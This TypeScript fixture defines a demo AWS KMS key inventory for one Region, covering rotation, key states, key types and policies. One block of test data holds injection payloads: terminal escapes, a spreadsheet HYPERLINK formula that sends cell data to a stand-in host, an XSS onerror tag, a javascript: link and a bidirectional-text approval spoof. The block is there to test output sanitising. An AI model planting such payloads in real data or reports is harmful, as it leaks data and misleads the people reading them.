import { awsManaged, type DemoRegion, inStack, tagged } from './key.ts';
import { administeredBy, sealedFor, sharedWithPartner } from './policies.ts';

const MANAGED: DemoRegion = {
  'aws/s3': awsManaged('S3 objects'),
  'aws/ebs': awsManaged('EBS volumes'),
  'aws/rds': awsManaged('RDS database'),
  'aws/secretsmanager': awsManaged('Secrets Manager secrets'),
};

const CANDIDATES: DemoRegion = {
  'payments/card-data': {
    description: 'Card data of the payment service',
    tags: tagged('payments', 'production', { 'data-class': 'restricted' }),
    policy: administeredBy('payments-key-admin', 'payments-service'),
    lastUsage: { operation: 'GenerateDataKey', at: '2026-11-20T17:04:00Z' },
  },
  'payments/settlement': { description: 'Settlement files', tags: tagged('payments', 'production') },
  'customer-data': {
    description: 'Personal data of customers',
    tags: tagged('crm', 'production', { 'data-class': 'personal' }),
    policy: administeredBy('crm-key-admin', 'crm-service'),
  },
  'backups/daily': { description: 'AWS Backup vault, daily', tags: tagged('platform', 'production') },
  'log-archive': {
    description: 'CloudTrail and VPC flow logs',
    tags: tagged('security', 'production'),
    pastRotations: [
      { date: '2024-06-01T09:00:00Z', type: 'AUTOMATIC' },
      { date: '2025-06-01T09:00:00Z', type: 'AUTOMATIC' },
    ],
    lastUsage: { operation: 'Decrypt', at: '2026-11-21T03:00:00Z' },
  },
  'orders-db': {
    description: 'Aurora cluster orders',
    tags: tagged('shop', 'production'),
    pastRotations: [{ date: '2026-02-10T12:30:00Z', type: 'ON_DEMAND' }],
  },
  'data-lake/raw': { description: 'Data lake, raw zone', tags: tagged('analytics', 'production') },
  'data-lake/curated': { description: 'Data lake, curated zone', tags: tagged('analytics', 'staging') },
  'ci-artifacts': { tags: tagged('platform', 'development') },
  'partner-exchange': {
    description: 'Files exchanged with the logistics partner',
    tags: tagged('logistics', 'production'),
    policy: sharedWithPartner(),
  },
  'stack/checkout': { description: 'Checkout stack', tags: inStack('checkout-production', 'CheckoutKey') },
  'unnamed-2021': { aliases: [], description: '' },
};

/** Text that an owner of a key may write and that a report must not act on. */
const HOSTILE: DemoRegion = {
  'test/terminal': { description: '\u001b[31mrotated\u001b[0m\u0007 all fine\r\nFAKE LINE' },
  'test/spreadsheet': {
    description: '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    tags: tagged('@SUM(1+1)', '+test'),
  },
  'test/markup': { description: '<img src=x onerror=alert(1)> | **bold** [x](javascript:alert(1))' },
  'test/direction': { description: 'approved \u202Edevorppa ton\u202C by security' },
};

const ENABLED: DemoRegion = {
  'identity-tokens': {
    description: 'Session tokens',
    rotation: { periodInDays: 365, nextRotationDate: '2027-05-04T10:00:00Z' },
  },
  'secrets/shared': { rotation: { periodInDays: 90, nextRotationDate: '2027-01-09T06:30:00Z' } },
  'archive/legal': {
    description: 'Legal hold',
    rotation: { periodInDays: 2560, nextRotationDate: '2030-08-15T12:00:00Z' },
  },
  'stack/ledger': {
    tags: inStack('ledger-production', 'LedgerKey'),
    rotation: { periodInDays: 180, nextRotationDate: '2027-03-20T00:00:00Z' },
  },
};

const OUT_OF_USE: DemoRegion = {
  'retired/crm-2019': { keyState: 'Disabled', description: 'Old CRM, kept for restores' },
  'retired/warehouse': {
    keyState: 'Disabled',
    description: 'Disabled while its rotation is on',
    rotation: { periodInDays: 365, nextRotationDate: '2027-02-01T00:00:00Z' },
  },
  'retired/prototype': { keyState: 'PendingDeletion', pendingWindowInDays: 30 },
  'retired/pilot': {
    keyState: 'PendingDeletion',
    pendingWindowInDays: 14,
    rotation: { periodInDays: 365, nextRotationDate: '2027-04-01T00:00:00Z' },
  },
};

const OTHER_TYPES: DemoRegion = {
  'signing/releases': { keySpec: 'RSA_4096', keyUsage: 'SIGN_VERIFY', description: 'Release signatures' },
  'signing/jwt': { keySpec: 'ECC_NIST_P256', keyUsage: 'SIGN_VERIFY' },
  'signing/firmware': { keySpec: 'ML_DSA_65', keyUsage: 'SIGN_VERIFY', description: 'Post-quantum pilot' },
  'exchange/devices': { keySpec: 'ECC_NIST_P384', keyUsage: 'KEY_AGREEMENT' },
  'mac/webhooks': { keySpec: 'HMAC_256', description: 'Webhook signatures' },
  'imported/hsm-escrow': {
    origin: 'EXTERNAL',
    description: 'Material from the data centre',
    validTo: '2028-12-31T23:59:59Z',
  },
  'imported/waiting': { origin: 'EXTERNAL', keyState: 'PendingImport' },
  'store/cloudhsm': { origin: 'AWS_CLOUDHSM', description: 'CloudHSM key store' },
  'store/external': { origin: 'EXTERNAL_KEY_STORE', description: 'External key manager' },
  'store/disconnected': { origin: 'EXTERNAL_KEY_STORE', keyState: 'Unavailable' },
};

const SEALED: DemoRegion = {
  'hr/payroll': { description: 'Payroll', policy: sealedFor('payroll-service') },
  'hr/contracts': {
    description: 'Employment contracts',
    policy: sealedFor('hr-service', 'kms:DescribeKey'),
  },
  treasury: {
    description: 'Treasury reports',
    policy: sealedFor('treasury-key-admin', 'kms:DescribeKey', 'kms:GetKeyRotationStatus'),
  },
};

const FAMILY: DemoRegion = {
  'global/profiles': {
    description: 'Global user profiles',
    multiRegion: true,
    replicaRegions: ['eu-west-1', 'us-east-1'],
    tags: tagged('identity', 'production'),
  },
};

/** The account's main Region. */
export const EU_CENTRAL_1: DemoRegion = {
  ...MANAGED,
  ...CANDIDATES,
  ...HOSTILE,
  ...ENABLED,
  ...OUT_OF_USE,
  ...OTHER_TYPES,
  ...SEALED,
  ...FAMILY,
};
